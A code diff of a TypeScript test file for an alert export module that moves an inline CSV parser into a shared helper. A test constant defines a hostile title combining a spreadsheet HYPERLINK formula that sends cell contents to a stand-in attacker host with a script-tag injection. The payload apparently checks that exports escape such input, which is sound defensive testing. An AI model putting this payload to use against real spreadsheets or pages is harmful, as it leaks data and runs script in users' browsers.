@@ -1,38 +1,10 @@
 import Parser from 'rss-parser';
 import { describe, expect, it } from 'vitest';
 import { ACLED_COLUMNS, alertsToAcledCsv, alertsToAtom, alertsToGeoJSON, alertsToGeoJSONSeq, atomEntryId } from '../../src/exports/index.js';
+import { parseCsv } from '../helpers/csv.js';
 import { makeAlert } from './alert-fixtures.js';
 
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script> & "quoted", line\nbreak \u0001';
-
-/** Minimal RFC 4180 reader, enough to check quoting round-trips. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(field);
-      field = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += c;
-  }
-  return rows;
-}
 
 describe('GeoJSON export', () => {
   it('writes one RFC 7946 point per alert, longitude first, at the most precise place', () => {
